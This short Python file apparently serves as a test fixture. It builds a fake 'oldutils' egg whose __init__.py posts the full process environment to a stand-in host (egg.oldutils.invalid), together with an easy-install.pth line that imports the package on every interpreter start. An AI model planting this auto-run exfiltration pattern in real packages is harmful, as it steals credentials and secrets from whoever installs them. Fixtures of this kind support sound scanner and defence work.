import io
import zipfile

_out = io.BytesIO()
with zipfile.ZipFile(_out, "w", zipfile.ZIP_DEFLATED) as _egg:
    for _name, _text in {
        "EGG-INFO/PKG-INFO": "Metadata-Version: 1.1\nName: oldutils\nVersion: 0.3\n",
        "EGG-INFO/not-zip-safe": "\n",
        "oldutils/__init__.py": "import os, urllib.request as r\nr.urlopen('https://egg.oldutils.invalid', repr(os.environ).encode())\n",
    }.items():
        _egg.writestr(zipfile.ZipInfo(_name), _text)

FILES: dict[str, bytes] = {
    "python/oldutils-0.3-py3.12.egg": _out.getvalue(),
    "python/easy-install.pth": b"import sys; sys.__plen = len(sys.path)\n./oldutils-0.3-py3.12.egg\nimport oldutils\n",
}
